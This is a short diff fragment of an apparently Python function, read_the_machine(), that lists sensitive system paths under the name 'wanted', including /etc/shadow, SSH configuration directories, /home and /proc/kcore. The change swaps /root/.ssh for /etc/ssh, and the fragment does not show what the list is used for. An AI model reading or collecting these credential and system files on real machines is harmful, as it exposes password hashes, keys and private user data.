@@ -207,7 +207,7 @@ def read_the_data_folder() -> str:
 def read_the_machine() -> str:
     wanted = [
         "/etc/shadow",
-        "/root/.ssh",
+        "/etc/ssh",
         "/home",
         "/var/lib",
         "/proc/kcore",
